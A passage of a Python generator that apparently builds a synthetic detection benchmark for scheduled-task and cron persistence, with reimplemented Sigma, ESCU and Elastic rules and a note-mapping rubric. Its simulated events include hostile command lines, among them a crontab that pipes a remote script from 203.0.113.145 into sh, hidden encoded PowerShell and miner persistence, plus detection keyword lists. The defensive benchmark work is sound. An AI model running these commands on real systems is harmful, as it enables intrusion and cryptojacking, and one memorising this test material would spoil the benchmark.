    a["mde"] = ("Suspicious scheduled task", "Medium", "Persistence")
    if host in ("kl-fxt-dt03", "kl-fxt-dt11"):
        a = proc(later(t2, 60, 600), host, SYSTEM, "powershell -w hidden -ep bypass -enc " + ENC, SVCHOST, SVCHOST_CMD, "malicious", None,
                 "the rogue task's encoded PowerShell runs", image=PS, integrity="System")
        a["mde"] = ("Suspicious PowerShell command line", "Medium", "Execution")

# M5 unannounced red-team exercise using Atomic Red Team command lines verbatim (PC, jump host, Linux).
RT_PC, RT_SRV = "kl-nhp-pc0103", "kl-srv-rds01"
u = "%s\\%s" % (DOM, STAFF[RT_PC])
for host, usr in [(RT_PC, u), (RT_SRV, "%s\\adm-sobi" % DOM)]:
    t = at(11, 14, rng.randrange(60))
    p, pc_ = CMD, '"cmd.exe" /c "schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe" & schtasks /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe""'
    sc = "Atomic Red Team T1053.005 #1 (red team, not announced to the SOC)"
    proc(t, host, usr, 'schtasks  /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"', p, pc_, "malicious", None, sc)
    proc(later(t, 1, 3), host, usr, 'schtasks  /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe"', p, pc_, "malicious", None, sc)
    task(later(t, 1, 3), host, usr.split("\\")[1], "\\T1053_005_OnLogon", "cmd.exe", "/c calc.exe", usr.split("\\")[1], "LogonTrigger", "malicious", None, sc)
    t2 = later(t, 120, 300)
    sc2 = "Atomic Red Team T1053.005 #2 local task with its defaults"
    proc(t2, host, usr, "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10", CMD,
         '"cmd.exe" /c "SCHTASKS /Create /SC ONCE /TN spawn /TR C:\\windows\\system32\\cmd.exe /ST 20:10"', "malicious", None, sc2)
    task(later(t2), host, usr.split("\\")[1], "\\spawn", "C:\\windows\\system32\\cmd.exe", "", usr.split("\\")[1], "TimeTrigger", "malicious", None, sc2)
    t3 = later(t2, 120, 300)
    sc3 = "Atomic Red Team T1053.005 #3 remote task with its defaults"
    proc(t3, host, usr, 'SCHTASKS /Create /S localhost /RU DOMAIN\\user /RP At0micStrong /TN "Atomic task" /TR "C:\\windows\\system32\\cmd.exe" /SC daily /ST 20:10',
         CMD, '"cmd.exe" /c "SCHTASKS /Create /S localhost /RU DOMAIN\\user /RP At0micStrong /TN "Atomic task" /TR "C:\\windows\\system32\\cmd.exe" /SC daily /ST 20:10"',
         "malicious", None, sc3)
    t4 = later(t3, 120, 300)
    sc4 = "Atomic Red Team T1053.005 #4 PowerShell cmdlets register AtomicTask"
    task(t4, host, usr.split("\\")[1], "\\AtomicTask", "cmd.exe", "/c calc.exe", usr.split("\\")[1], "LogonTrigger", "malicious", None, sc4)
    proc(later(t4, 200, 400), host, usr, 'schtasks /delete /tn "T1053_005_OnLogon" /f', CMD, '"cmd.exe" /c "schtasks /delete /tn "T1053_005_OnLogon" /f >nul 2>&1 & schtasks /delete /tn "T1053_005_OnStartup" /f >nul 2>&1"',
         "malicious", None, "Atomic Red Team T1053.005 #1 cleanup")
for host in ["kl-lx-edi02", "kl-lx-track02"]:
    t = at(11, 15, rng.randrange(60))
    sc = "Atomic Red Team T1053.003 #1 crontab replacement"
    lproc(t, host, "root", "/usr/bin/crontab", "crontab /tmp/persistevil", "/bin/sh",
          "sh -c 'crontab -l > /tmp/notevil; echo \"* * * * * /tmp/evil.sh\" > /tmp/persistevil && crontab /tmp/persistevil'", "malicious", None, sc)
    lfile(later(t), host, "root", "/var/spool/cron/crontabs/root", "/usr/bin/crontab", "malicious", None, sc, pcmd="crontab /tmp/persistevil")
    sc = "Atomic Red Team T1053.003 #2 cron.daily script"
    t2 = later(t, 60, 200)
    lproc(t2, host, "root", "/bin/sh", "sh -c 'echo \"echo 'Hello from Atomic Red Team' > /tmp/atomic.log\" > /etc/cron.daily/persistevil'", "/bin/bash", "bash",
          "malicious", None, sc)
    lfile(later(t2), host, "root", "/etc/cron.daily/persistevil", "/bin/sh", "malicious", None, sc, pcmd="sh -c echo ... > /etc/cron.daily/persistevil")
    t3 = later(t2, 60, 200)
    lproc(t3, host, "root", "/usr/bin/at", "at now + 1 minute", "/bin/sh", "sh -c 'echo \"echo Hello from Atomic Red Team\" | at now + 1 minute'",
          "malicious", None, "Atomic Red Team T1053.002 at job")
    t4 = later(t3, 60, 200)
    lfile(t4, host, "root", "/etc/systemd/system/art-timer.timer", "/bin/sh", "malicious", None, "Atomic Red Team T1053.006 systemd timer",
          pcmd="sh -c echo '[Timer]' > /etc/systemd/system/art-timer.timer")
    lfile(later(t4), host, "root", "/etc/systemd/system/art-timer.service", "/bin/sh", "malicious", None, "Atomic Red Team T1053.006 systemd timer",
          pcmd="sh -c echo '[Service]' > /etc/systemd/system/art-timer.service")
    lproc(later(t4, 5, 20), host, "root", "/usr/bin/systemctl", "systemctl start art-timer.timer", "/bin/sh", "sh -c 'systemctl start art-timer.timer'",
          "malicious", None, "Atomic Red Team T1053.006 systemd timer")

# M6 exploited EDI gateway (file-transfer software RCE): a miner persists through cron and a service.
for host in ["kl-lx-edi01"]:
    t = at(5, 3, 12)
    sc = "exploited EDI gateway: web user installs a curl|sh crontab"
    lproc(t, host, "edi", "/usr/bin/crontab", "crontab -", "/bin/sh",
          "sh -c (crontab -l 2>/dev/null; echo \"*/10 * * * * curl -fsSL http://203.0.113.145/k.sh | sh\") | crontab -", "malicious", None, sc)
    lfile(later(t), host, "edi", "/var/spool/cron/crontabs/edi", "/usr/bin/crontab", "malicious", None, sc, pcmd="crontab -")
    t2 = later(t, 900, 1800)
    sc2 = "exploited EDI gateway: root appends an @reboot line to /etc/crontab"
    lproc(t2, host, "root", "/bin/bash", "bash -c echo \"@reboot root /var/tmp/.x/kdevtmpfsi\" >> /etc/crontab", "/var/tmp/.x/kinsing", "/var/tmp/.x/kinsing",
          "malicious", None, sc2)
    lfile(later(t2), host, "root", "/etc/crontab", "/bin/bash", "malicious", None, sc2, pcmd="bash -c echo ... >> /etc/crontab")
    t3 = later(t2, 30, 120)
    sc3 = "exploited EDI gateway: miner service unit written and enabled"
    lfile(t3, host, "root", "/etc/systemd/system/kdevtmpfsi.service", "/var/tmp/.x/kinsing", "malicious", None, sc3, pcmd="/var/tmp/.x/kinsing")
    lproc(later(t3), host, "root", "/usr/bin/systemctl", "systemctl enable kdevtmpfsi.service", "/var/tmp/.x/kinsing", "/var/tmp/.x/kinsing",
          "malicious", None, sc3)
    lproc(later(t3, 3, 9), host, "root", "/usr/bin/systemctl", "systemctl start kdevtmpfsi.service", "/var/tmp/.x/kinsing", "/var/tmp/.x/kinsing",
          "malicious", None, sc3)
    lfile(later(t3, 10, 40), host, "root", "/etc/cron.d/0apt-sync", "/var/tmp/.x/kinsing", "malicious", None, "exploited EDI gateway: cron file 0apt-sync",
          pcmd="/var/tmp/.x/kinsing")

# M7 insider: a departing contractor schedules nightly exports of the tracking data to an outside host.
for host in ["kl-lx-track01", "kl-lx-track03"]:
    t = at(12, 22, rng.randrange(60))
    lfile(t, host, "root", "/etc/cron.d/track-archive", "/usr/bin/tee", "malicious", None,
          "insider: cron file exporting tracking data to an outside host", pcmd="tee -a /etc/cron.d/track-archive")
    lfile(later(t, 30, 90), host, "root", "/etc/systemd/system/track-archive.timer", "/usr/bin/tee", "malicious", None,
          "insider: systemd timer for the export", pcmd="tee /etc/systemd/system/track-archive.timer")
    lproc(later(t, 120, 300), host, "ctr-jbanner", "/usr/bin/crontab", "crontab /home/ctr-jbanner/.c", "/usr/sbin/cron", "/usr/sbin/CRON -f",
          "malicious", None, "insider: a cron job re-installs the contractor's crontab")


# ============================================================================================= detections
def has(s, *subs):
    s = s.lower()
    return all(x.lower() in s for x in subs)


def anyof(s, *subs):
    s = s.lower()
    return any(x.lower() in s for x in subs)


def basename(p):
    return p.replace("/", "\\").split("\\")[-1]


def is_schtasks(a):
    return a["kind"] == "proc" and basename(a["image"]).lower() == "schtasks.exe"


def shannon(s):
    c = {}
    for ch in s:
        c[ch] = c.get(ch, 0) + 1
    return -sum(v / len(s) * math.log2(v / len(s)) for v in c.values())


def sigma_hits(a):
    """SigmaHQ process_creation rules (Zircolite): (title, id, level, description)."""
    if a["kind"] != "proc":
        return []
    c, out = a["cmd"], []
    if is_schtasks(a):
        if has(c, " /create ") and not anyof(a["user"], "AUTHORI", "AUTORI"):
            out.append("Scheduled Task Creation Via Schtasks.EXE")
        if has(c, " /create ", " /sc once ", "\\Temp\\"):
            out.append("Suspicious Scheduled Task Creation Involving Temp Folder")
        folders = (":\\Perflogs", ":\\Windows\\Temp", "\\AppData\\Local\\", "\\AppData\\Roaming\\", "\\Users\\Public", "%AppData%", "%Public%")
        if has(c, " /create ") and anyof(c, *folders):
            out.append("Suspicious Schtasks From Env Var Folder")
        types = (" ONLOGON ", " ONSTART ", " ONCE ", " ONIDLE ")
        privs = ("NT AUT", " SYSTEM", "HIGHEST")
        if anyof(c, *types) and not anyof(c, *privs):
            out.append("Suspicious Schtasks Schedule Types")
        if anyof(c, *types) and anyof(c, *privs):
            out.append("Suspicious Schtasks Schedule Type With High Privileges")
        if anyof(c, "wscript", "vbscript", "cscript", "wmic ", "wmic.exe", "regsvr32.exe", "powershell", "\\AppData\\") and has(c, "once", "00:00"):
            out.append("Uncommon One Time Only Scheduled Task At 00:00")
        p1 = anyof(c, "/sc minute ", "/ru system ")
        p2 = anyof(c, "cmd /c", "cmd /k", "cmd /r", "cmd.exe /c ", "cmd.exe /k ", "cmd.exe /r ")
        unc = anyof(c, " -decode ", " -enc ", " -w hidden ", " bypass ", " IEX", ".DownloadData", ".DownloadFile", ".DownloadString",
                    "/c start /min ", "FromBase64String", "mshta http", "mshta.exe http")
        a1 = anyof(c, ":\\ProgramData\\", ":\\Temp\\", ":\\Tmp\\", ":\\Users\\Public\\", ":\\Windows\\Temp\\", "\\AppData\\", "%AppData%", "%Temp%", "%tmp%")
        a2 = anyof(c, "cscript", "curl", "wscript")
        if has(c, "/Create ") and ((p1 and p2) or unc or (a1 and a2)):
            out.append("Suspicious Command Patterns In Scheduled Task Creation")
        if has(c, "/Create ") and anyof(c, '/TN "{', "/TN '{", "/TN {") and anyof(c, '}"', "}'", "} "):
            out.append("Suspicious Scheduled Task Name As GUID")
        if anyof(c, " /change ", " /create ") and has(c, "/ru ") and anyof(c, "NT AUT", " SYSTEM "):
            if not (anyof(a["parent"], "\\Rapid7\\", "\\Avira\\") or has(c, "/TN TVInstallRestore")):
                out.append("Schtasks Creation Or Modification With SYSTEM Privileges")
    return out


SIGMA = {
    "Scheduled Task Creation Via Schtasks.EXE": ("92626ddd-662c-49e3-ac59-f6535f12d189", "low",
        "Detects the creation of scheduled tasks by user accounts via the \"schtasks\" utility."),
    "Suspicious Scheduled Task Creation Involving Temp Folder": ("39019a4e-317f-4ce3-ae63-309a8c6b53c5", "high",
        "Detects the creation of scheduled tasks that involves a temporary folder and runs only once"),
    "Suspicious Schtasks From Env Var Folder": ("81325ce1-be01-4250-944f-b4789644556f", "medium",
        "Detects Schtask creations that point to a suspicious folder or an environment variable often used by malware"),
    "Suspicious Schtasks Schedule Types": ("24c8392b-aa3c-46b7-a545-43f71657fe98", "high",
        "Detects scheduled task creations or modification on a suspicious schedule type"),
    "Suspicious Schtasks Schedule Type With High Privileges": ("7a02e22e-b885-4404-b38b-1ddc7e65258a", "medium",
        "Detects scheduled task creations or modification to be run with high privileges on a suspicious schedule type"),
    "Uncommon One Time Only Scheduled Task At 00:00": ("970823b7-273b-460a-8afc-3a6811998529", "high",
        "Detects scheduled task creation events that include suspicious actions, and is run once at 00:00"),
    "Suspicious Command Patterns In Scheduled Task Creation": ("f2c64357-b1d2-41b7-849f-34d2682c0fad", "high",
        "Detects scheduled task creation using \"schtasks\" that contain potentially suspicious or uncommon commands"),
    "Suspicious Scheduled Task Name As GUID": ("ff2fff64-4cd6-4a2b-ba7d-e28a30bbe66b", "medium",
        "Detects creation of a scheduled task with a GUID like name"),
    "Schtasks Creation Or Modification With SYSTEM Privileges": ("89ca78fd-b37c-4310-b3d3-81a023f83936", "high",
        "Detects the creation or update of a scheduled task to run with \"NT AUTHORITY\\SYSTEM\" privileges"),
}
SIGMA_ORDER = list(SIGMA)  # Zircolite writes the rules in execution order

LOLBAS = {"regsvcs.exe", "ftp.exe", "offlinescannershell.exe", "rasautou.exe", "schtasks.exe", "xwizard.exe", "pnputil.exe",
          "atbroker.exe", "mshta.exe", "bitsadmin.exe", "forfiles.exe", "msbuild.exe", "hh.exe", "cmstp.exe", "odbcconf.exe",
          "regasm.exe", "regsvr32.exe", "msiexec.exe", "wmic.exe", "installutil.exe", "netsh.exe", "at.exe", "pcalua.exe"}


def escu_hits(a):
    """ESCU correlation searches (Sysmon / Security 4698 / Sysmon for Linux into Splunk)."""
    out = []
    if a["kind"] == "proc":
        c = a["cmd"].lower()
        if is_schtasks(a):
            if has(c, "/create ", "/ru ", "system"):
                out.append("Windows Schtasks Create Run As System")
            if has(c, "/rl ", " highest "):
                out.append("Windows Scheduled Task with Highest Privileges")
            if has(c, "create", " /xml "):
                out.append("Windows Scheduled Task Created Via XML")
            if anyof(c, "delete", "create"):
                out.append("Scheduled Task Deleted Or Created via CMD")
            if has(c, "/create", "/s"):
                out.append("Schtasks scheduling job on remote system")
            if has(c, "/run"):
                out.append("Schtasks Run Task On Demand")
            if has(c, " /s ", "/run"):
                out.append("Scheduled Task Initiation on Remote Endpoint")
            if has(c, "shutdown", "/create "):
                out.append("Schtasks used for forcing a reboot")
            if has(c, "/create") and anyof(c, "\\users\\public\\", "\\programdata\\", "windows\\temp"):
                out.append("Suspicious Scheduled Task from Public Directory")
        if basename(a["parent"]).lower() == "svchost.exe" and basename(a["image"]).lower() in LOLBAS:
            out.append("Svchost LOLBAS Execution Process Spawn")
    elif a["kind"] == "task":
        content = (a["command"] + " " + a["args"]).lower()
        if anyof(content, "powershell.exe", "wscript.exe", "cscript.exe", "cmd.exe", "sh.exe", "ksh.exe", "zsh.exe", "bash.exe", "scrcons.exe", "pwsh.exe"):
            out.append("WinEvent Scheduled Task Created to Spawn Shell")
        if shannon(a["task"].split("\\")[-1]) > 3 and anyof(a["task"], "{"):
            out.append("Randomly Generated Scheduled Task Name")
    elif a["kind"] == "lproc":
        name, c = basename(a["image"]), a["cmd"]
        if name == "crontab" and " -l" in c:
            out.append("Linux Adding Crontab Using List Parameter")
        if name == "crontab" and " -e" in c:
            out.append("Linux Edit Cron Table Parameter")
        if name in ("at", "atd") or basename(a["parent"]) in ("at", "atd"):
            out.append("Linux At Application Execution")
        if anyof(c, "/etc/cron", "/var/spool/cron/", "/etc/anacrontab") and "echo" in c:
            out.append("Linux Possible Append Cronjob Entry on Existing Cronjob File")
        if a.get("image_name", name) in ("nano", "vim.basic") and anyof(c, "nano ", "vi ", "vim ") and anyof(c, "/etc/cron", "/var/spool/cron/"):
            out.append("Linux Possible Cronjob Modification With Editor")
        if name in ("systemctl", "service") and anyof(c, "restart", "reload", "reenable"):
            out.append("Linux Service Restarted")
        if name in ("systemctl", "service") and anyof(c, " start ", " enable "):
            out.append("Linux Service Started Or Enabled")
    elif a["kind"] == "lfile":
        p = a["path"]
        if anyof(p, "/etc/cron", "/var/spool/cron/"):
            out.append("Linux Add Files In Known Crontab Directories")
        if anyof(p, "/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system") and p.endswith(".service"):
            out.append("Linux Service File Created In Systemd Directory")
    return out


ESCU_ID = {
    "Windows Schtasks Create Run As System": "41a0e58e-884c-11ec-9976-acde48001122",
    "Windows Scheduled Task with Highest Privileges": "2f15e1a4-0fc2-49dd-919e-cbbe60699218",
    "Windows Scheduled Task Created Via XML": "7e03b682-3965-4598-8e91-a60a40a3f7e4",
    "Scheduled Task Deleted Or Created via CMD": "d5af132c-7c17-439c-9d31-13d55340f36c",
    "Schtasks scheduling job on remote system": "1297fb80-f42a-4b4a-9c8a-88c066237cf6",
    "Schtasks Run Task On Demand": "bb37061e-af1f-11eb-a159-acde48001122",
    "Scheduled Task Initiation on Remote Endpoint": "95cf4608-4302-11ec-8194-3e22fbd008af",
    "Schtasks used for forcing a reboot": "1297fb80-f42a-4b4a-9c8a-88c066437cf6",
    "Suspicious Scheduled Task from Public Directory": "7feb7972-7ac3-11eb-bac8-acde48001122",
    "Svchost LOLBAS Execution Process Spawn": "09e5c72a-4c0d-11ec-aa29-3e22fbd008af",
    "WinEvent Scheduled Task Created to Spawn Shell": "203ef0ea-9bd8-11eb-8201-acde48001122",
    "Randomly Generated Scheduled Task Name": "9d22a780-5165-11ec-ad4f-3e22fbd008af",
    "Linux Adding Crontab Using List Parameter": "52f6d751-1fd4-4c74-a4c9-777ecfeb5c58",
    "Linux Edit Cron Table Parameter": "0d370304-5f26-11ec-a4bb-acde48001122",
    "Linux At Application Execution": "bf0a378e-5f3c-11ec-a6de-acde48001122",
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": "b5b91200-5f27-11ec-bb4e-acde48001122",
    "Linux Possible Cronjob Modification With Editor": "dcc89bde-5f24-11ec-87ca-acde48001122",
    "Linux Service Restarted": "084275ba-61b8-11ec-8d64-acde48001122",
    "Linux Service Started Or Enabled": "e0428212-61b7-11ec-88a3-acde48001122",
    "Linux Add Files In Known Crontab Directories": "023f3452-5f27-11ec-bf00-acde48001122",
    "Linux Service File Created In Systemd Directory": "c7495048-61b6-11ec-9a37-acde48001122",
}

ELASTIC_EXCLUDED_WRITERS = {"/usr/bin/dpkg", "/bin/dpkg", "/usr/bin/crontab", "/opt/chef/embedded/bin/ruby"}


def elastic_hits(a):
    out = []
    if a["kind"] == "task" and not a["user"].endswith("$"):
        out.append("A scheduled task was created")
    elif a["kind"] == "proc" and basename(a["parent"]).lower() == "svchost.exe" and "Schedule" in a["pcmd"]:
        name = basename(a["image"]).lower()
        lol = {"cscript.exe", "wscript.exe", "powershell.exe", "cmd.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe", "msiexec.exe"}
        args = a["cmd"]
        if name in lol and anyof(args, "C:\\Users\\", "C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\PerfLogs\\", "C:\\Intel\\"):
            if not (name == "msiexec.exe" or (name == "powershell.exe" and "-File" in args and a["user"] == SYSTEM)):
                out.append("Suspicious Execution via Scheduled Task")
    elif a["kind"] == "lproc" and basename(a["image"]) == "crontab" and basename(a["parent"]) == "cron":
        if a["user"] != "root" and not any(x in a["cmd"].split() for x in ("-l", "-r", "-e", "-h", "-help")):
            out.append("Potential Persistence via Cron Job")
    elif a["kind"] == "lfile" and a["image"] not in ELASTIC_EXCLUDED_WRITERS:
        p = a["path"]
        if p.startswith(("/etc/cron.d/", "/etc/cron.daily/", "/etc/cron.hourly/", "/etc/crontab", "/var/spool/cron/crontabs/")):
            out.append("Cron Job Created or Modified")
        if p.startswith("/etc/systemd/system/") and p.endswith(".timer"):
            out.append("Systemd Timer Created")
    return out


ELASTIC = {
    "A scheduled task was created": ("92a6faf5-78ec-4e25-bea1-73bacc9b59d9", "low", 21),
    "Suspicious Execution via Scheduled Task": ("5d1d6907-0747-4d5d-9b24-e4a18853dc0a", "medium", 47),
    "Potential Persistence via Cron Job": ("b1c14366-f4f8-49a0-bcbb-51d2de8b0bb8", "low", 21),
    "Cron Job Created or Modified": ("ff10d4d8-fea7-422d-afb1-e5a2702369a9", "medium", 47),
    "Systemd Timer Created": ("7fb500fa-8e24-4bd1-9480-2a819352602c", "low", 21),
}

# ============================================================================================= the rubric
APPS = {"install", "updater", "deploy", "mgmt", "auto"}
SOFT = {"install", "updater", "deploy"}
ANY = APPS | {"admin", "pkg", "cm"}
LINUX = {"admin", "auto", "pkg", "cm", "mgmt"}


def appdata(a):
    return "\\AppData\\" in a.get("cmd", "")


def not_appdata(a):
    return not appdata(a)


def onlogon(a):
    return " onlogon " in a.get("cmd", "").lower() + " "


def temp_parent(a):
    return "\\Temp\\" in a.get("parent", "")


# rule -> [(note, causes, condition or None)]; every note must be one the rule carries in seed_map.json
NOTE_FIT = {
    "Scheduled Task Creation Via Schtasks.EXE": [("t1053-01", {"admin", "mgmt"}, None), ("t1053-33", SOFT, None)],
    "Suspicious Scheduled Task Creation Involving Temp Folder": [("t1053-01", {"admin", "mgmt"}, None), ("t1053-33", SOFT, None)],
    "Suspicious Schtasks From Env Var Folder": [("t1053-11", {"install", "deploy"}, not_appdata), ("t1053-35", SOFT, appdata)],
    "Suspicious Schtasks Schedule Types": [("t1053-27", ANY, onlogon)],
    "Suspicious Schtasks Schedule Type With High Privileges": [("t1053-36", SOFT, None)],
    "Uncommon One Time Only Scheduled Task At 00:00": [("t1053-33", SOFT, None)],
    "Suspicious Command Patterns In Scheduled Task Creation": [("t1053-34", {"install"}, temp_parent)],
    "Suspicious Scheduled Task Name As GUID": [("t1053-31", SOFT | {"auto"}, None)],
    "Windows Schtasks Create Run As System": [("t1053-18", SOFT | {"mgmt"}, None)],
    "Windows Scheduled Task with Highest Privileges": [("t1053-15", SOFT | {"mgmt"}, None)],
    "Windows Scheduled Task Created Via XML": [("t1053-21", {"admin", "mgmt", "deploy"}, None)],
    "Schtasks scheduling job on remote system": [("t1053-42", {"admin", "mgmt"}, None)],
    "Scheduled Task Initiation on Remote Endpoint": [("t1053-07", {"admin", "mgmt"}, None)],
    "Schtasks Run Task On Demand": [("t1053-10", {"admin"}, None)],
    "Scheduled Task Deleted Or Created via CMD": [("t1053-41", {"admin", "mgmt", "deploy"}, None)],
    "Schtasks used for forcing a reboot": [("t1053-38", {"admin", "mgmt", "deploy"}, None)],
    "Suspicious Scheduled Task from Public Directory": [("t1053-37", ANY, None)],
    "Svchost LOLBAS Execution Process Spawn": [("t1053-24", APPS, None)],
    "WinEvent Scheduled Task Created to Spawn Shell": [("t1053-13", APPS, None)],
    "Randomly Generated Scheduled Task Name": [("t1053-25", SOFT | {"auto"}, None)],
    "Linux Add Files In Known Crontab Directories": [("t1053-02", LINUX, None)],
    "Linux Adding Crontab Using List Parameter": [("t1053-04", LINUX, None)],
    "Linux Edit Cron Table Parameter": [("t1053-04", LINUX, None)],
    "Linux At Application Execution": [("t1053-04", LINUX, None)],
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": [("t1053-14", LINUX, None)],
    "Linux Possible Cronjob Modification With Editor": [("t1053-05", LINUX, None)],
    "Linux Service Restarted": [("t1053-05", LINUX, None)],
    "Linux Service Started Or Enabled": [("t1053-05", LINUX, None)],
    "Linux Service File Created In Systemd Directory": [("t1053-16", LINUX, None)],
    "A scheduled task was created": [("t1053-29", SOFT, None)],
    "Suspicious Execution via Scheduled Task": [("t1053-30", APPS, None)],
    "Potential Persistence via Cron Job": [("t1053-32", ANY, None)],
}
NO_NOTE_RULES = {"Schtasks Creation Or Modification With SYSTEM Privileges", "Cron Job Created or Modified", "Systemd Timer Created",
                 "Suspicious scheduled task", "Suspicious Task Scheduler activity", "Suspicious PowerShell command line"}


def check_rubric():
    if not os.path.exists(SEED_MAP):
        return
    seed = json.load(open(SEED_MAP))
    carried = {}
    for i, s in enumerate(seed["sentences"], 1):
        for r in s["rules_t1053"]:
            carried.setdefault(r["title"].lower(), set()).add("t1053-%02d" % i)
    for rule, fits in NOTE_FIT.items():
        for note, _, _ in fits:
            if note not in carried.get(rule.lower(), set()):
                sys.exit("rubric error: %s does not carry %s" % (rule, note))
    for rule in NO_NOTE_RULES:
        if carried.get(rule.lower()):
            sys.exit("rubric error: %s carries notes %s" % (rule, carried[rule.lower()]))


def notes_for(rule, a):
    if a["verdict"] != "benign":
        return ""
    if rule not in NOTE_FIT:
        assert rule in NO_NOTE_RULES, rule
        return ""
    return ";".join(sorted({n for n, causes, cond in NOTE_FIT[rule] if a["cause"] in causes and (cond is None or cond(a))}))


# =============================================================================================== writers
def iso(t, digits=6):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + ("%06d" % t.microsecond)[:digits]


def task_xml(a, t):
    principal = ("<UserId>S-1-5-18</UserId>\r\n      <RunLevel>%s</RunLevel>" % a["level"]) if a["run_as"] == "S-1-5-18" else \
        ("<UserId>%s\\%s</UserId>\r\n      <LogonType>InteractiveToken</LogonType>\r\n      <RunLevel>%s</RunLevel>" % (DOM, a["run_as"], a["level"]))
    trig = a["trigger"]
    if trig.startswith("Logon"):
        tx = "<LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>"
    elif trig.startswith("Boot"):
        tx = "<BootTrigger>\r\n      <Enabled>true</Enabled>\r\n    </BootTrigger>"
    elif "weekly" in trig:
        tx = "<CalendarTrigger>\r\n      <StartBoundary>2028-03-12T04:00:00</StartBoundary>\r\n      <ScheduleByWeek><DaysOfWeek><Sunday /></DaysOfWeek><WeeksInterval>1</WeeksInterval></ScheduleByWeek>\r\n    </CalendarTrigger>"
    elif trig.startswith("Calendar"):
        tx = "<CalendarTrigger>\r\n      <StartBoundary>%s</StartBoundary>\r\n      <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>\r\n    </CalendarTrigger>" % t.strftime("%Y-%m-%dT%H:%M:%S")
    else:
        m = trig[trig.find("(") + 1:-1] if "(" in trig else t.strftime("%Y-%m-%dT20:10:00")
        rep = ""
        if m.startswith("PT"):
            rep, m = "\r\n      <Repetition><Interval>%s</Interval></Repetition>" % m, t.strftime("%Y-%m-%dT%H:%M:%S")
        tx = "<TimeTrigger>%s\r\n      <StartBoundary>%s</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>" % (rep, m)
    args = "\r\n      <Arguments>%s</Arguments>" % xml_escape(a["args"]) if a["args"] else ""
    return ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
            "  <RegistrationInfo>\r\n    <Date>%s</Date>\r\n    <Author>%s</Author>\r\n    <URI>%s</URI>\r\n  </RegistrationInfo>\r\n"
            "  <Triggers>\r\n    %s\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n      %s\r\n    </Principal>\r\n  </Principals>\r\n"
            "  <Settings>\r\n    <Enabled>true</Enabled>\r\n    <Hidden>false</Hidden>\r\n  </Settings>\r\n"
            "  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>%s</Command>%s\r\n    </Exec>\r\n  </Actions>\r\n</Task>") % (
        t.strftime("%Y-%m-%dT%H:%M:%S.0000000"), xml_escape(a["author"] if "\\" in a["author"] or " " in a["author"] else "%s\\%s" % (DOM, a["author"])),
        xml_escape(a["task"]), tx, principal, xml_escape(a["command"]), args)


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def subject(a):
    return a.get("subject_user", a["user"])


# ---------------------------------------------------------------------------- Zircolite (--csv, ';')
ZIR_HEADER = ["rule_title", "rule_description", "rule_level", "rule_count", "row_id", "Provider_Name", "Guid", "EventID", "Version", "Level",
              "Task", "Opcode", "Keywords", "SystemTime", "EventRecordID", "Channel", "Computer", "UserID", "RuleName", "UtcTime",
              "ProcessGuid", "ProcessId", "Image", "FileVersion", "Description", "Product", "Company", "OriginalFileName", "CommandLine",
              "CurrentDirectory", "User", "LogonGuid", "LogonId", "TerminalSessionId", "IntegrityLevel", "SHA1", "MD5", "SHA256", "IMPHASH",
              "ParentProcessGuid", "ParentProcessId", "ParentImage", "ParentCommandLine", "ParentUser", "OriginalLogfile"]


def zircolite(records):
    hits = {r: [] for r in SIGMA_ORDER}
    for a in ACTS:
        if "zir" in sources(a["host"]):
            for r in sigma_hits(a):
                hits[r].append(a)
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=";", lineterminator="\r\n")
    w.writerow(ZIR_HEADER)
    for rule in SIGMA_ORDER:
        rid, level, desc = SIGMA[rule]
        for a in sorted(hits[rule], key=lambda a: (a["host"], a["t"])):
            t = a["t"]
            img = a["image"]
            row = [rule, desc, level, len(hits[rule]), 1 + int(hid("row", a["n"], n=5), 16) % 900000, "Microsoft-Windows-Sysmon",
                   "5770385F-C22A-43E0-BF4C-06F5698FFBD9", 1, 5, 4, 1, 0, "0x8000000000000000", iso(t), 100000 + int(hid("erid", a["n"], n=6), 16) % 9000000,
                   "Microsoft-Windows-Sysmon/Operational", "%s.%s" % (a["host"].upper(), DNS), "S-1-5-18", "-", t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000),
                   guid("pg", a["n"]), 1000 + int(hid("pid", a["n"], n=4), 16) % 30000, img,
                   "10.0.20348.1 (WinBuild.160101.0800)" if basename(img).lower() == "schtasks.exe" else "",
                   "Task Scheduler Configuration Tool" if basename(img).lower() == "schtasks.exe" else "",
                   "Microsoft® Windows® Operating System", "Microsoft Corporation", basename(img).lower() if basename(img).lower() != "schtasks.exe" else "schtasks.exe",
                   a["cmd"], a.get("cwd", "C:\\Windows\\system32\\"), a["user"], guid("lg", a["host"], a["user"]), "0x%x" % (0x3e7 if a["user"] == SYSTEM else 0x10000 + int(hid("lid", a["user"], n=5), 16)),
                   0 if a["user"] == SYSTEM else 2, a["integrity"], hid("sha1", img, n=40).upper(), hid("md5", img).upper(), hid("sha256", img, n=64).upper(),
                   hid("imp", img).upper(), guid("ppg", a["n"]), 1000 + int(hid("ppid", a["n"], n=4), 16) % 30000, a["parent"], a["pcmd"],
                   SYSTEM if a["user"] == SYSTEM else a["user"], "Microsoft-Windows-Sysmon%%4Operational_%s.evtx" % a["host"].upper()]
            w.writerow([("" if v is None else str(v)).replace("\r", "").replace("\n", "") for v in row])
